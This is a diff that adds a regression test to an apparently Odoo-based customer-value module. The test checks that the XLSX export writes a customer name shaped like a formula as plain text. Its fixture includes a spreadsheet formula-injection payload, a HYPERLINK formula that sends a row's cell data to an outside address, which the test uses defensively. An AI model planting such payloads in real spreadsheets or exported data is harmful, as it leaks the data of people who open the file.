@@ -314,6 +314,26 @@ class TestCustomerValue(SfaCase):
         # recomputed today: a contact yesterday is within the norm
         self.assertEqual(self.value(self.cust_a).date_to, date.today())
 
+    def test_export_writes_names_as_text(self):
+        """A customer named like a formula stayed a live formula in the sheet,
+        sending the row's data to an address when opened."""
+        name = '=HYPERLINK("http://example.com/?"&C5,"Open")'
+        self.cust_a.name = name
+        self.rep_a.name = "http://rep.example.com"
+        values = self.Value.with_user(self.supervisor).search([])
+        action = values.action_export_xlsx()
+        attachment = self.env["ir.attachment"].browse(
+            int(action["url"].split("/")[3].split("?")[0])
+        )
+        sheet = openpyxl.load_workbook(io.BytesIO(attachment.raw))["Customer Value"]
+        cells = {row[0].value: row for row in sheet.iter_rows(min_row=5)}
+        alpha = cells[name]
+        self.assertEqual(alpha[0].data_type, "s", "text, not a formula")
+        self.assertEqual(alpha[3].value, "http://rep.example.com")
+        self.assertIsNone(alpha[3].hyperlink)
+        self.assertEqual(alpha[2].data_type, "n", "the score stays a number")
+        self.assertEqual(cells["Total"][7].data_type, "f", "totals stay formulas")
+
     def test_export_xlsx(self):
         values = self.Value.with_user(self.supervisor).search([])
         action = values.action_export_xlsx()
